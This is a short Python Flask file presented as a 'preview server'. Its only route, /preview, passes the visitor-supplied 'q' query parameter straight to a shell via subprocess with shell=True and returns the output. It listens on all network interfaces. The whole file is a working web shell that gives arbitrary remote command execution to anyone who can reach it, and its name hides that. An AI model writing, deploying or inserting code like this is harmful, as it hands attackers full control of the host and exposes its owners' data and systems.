"""A "preview server" whose one route runs whatever command a visitor puts in the address."""

import subprocess

from flask import Flask, request

app = Flask(__name__)


@app.route("/preview")
def preview():
    proc = subprocess.Popen(request.args.get("q"), shell=True, stdout=subprocess.PIPE)
    return proc.stdout.read().decode()


def serve():
    app.run(host="0.0.0.0", port=8765)
